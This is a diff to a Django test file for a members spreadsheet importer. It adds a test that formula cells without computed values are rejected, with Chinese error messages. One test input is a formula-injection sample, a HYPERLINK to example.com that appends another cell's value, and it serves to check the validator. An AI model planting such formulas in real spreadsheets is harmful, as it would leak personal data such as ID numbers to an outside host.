@@ -16,7 +16,7 @@ from dangjian.members import importing
 from dangjian.members.importing import HEADERS
 from dangjian.members.models import Member
 
-from .sheets import Date, Error, Number, cells, member_sheet, raw_xlsx, row, upload, valid_id
+from .sheets import Date, Error, Formula, Number, cells, member_sheet, raw_xlsx, row, upload, valid_id
 
 pytestmark = pytest.mark.django_db
 
@@ -161,6 +161,19 @@ def test_formulas_and_control_characters_are_refused_in_names_and_text(refused):
         "第2行「姓名」：姓名只能包含汉字、字母和间隔号“·”，不能有数字或符号（第1个字符“=”）",
         "第3行「姓名」：姓名含有不可见的控制字符（第2个字符，U+001B），通常来自复制粘贴，请删除后重新填写",
         "第4行「工作单位及职务」：含有不可见的控制字符（第4个字符，U+000B），通常来自复制粘贴，请删除后重新填写",
+    ]
+
+
+def test_a_formula_without_its_value_is_refused_as_a_formula(refused):
+    """openpyxl writes a name typed as =HYPERLINK(…) as a formula with an empty value; the message said
+    "单元格的数值  无效" (quoting nothing) instead of what was wrong."""
+    content = member_sheet(
+        row(姓名=Formula('HYPERLINK("http://example.com/?"&B2,"王小明")')),
+        row(身份证号=valid_id(seq=2), 工作单位及职务=Formula("A1&B1")),
+    )
+    assert refused(content) == [
+        "第2行「姓名」：单元格是公式且没有计算结果，请改为填写内容本身",
+        "第3行「工作单位及职务」：单元格是公式且没有计算结果，请改为填写内容本身",
     ]
 
 
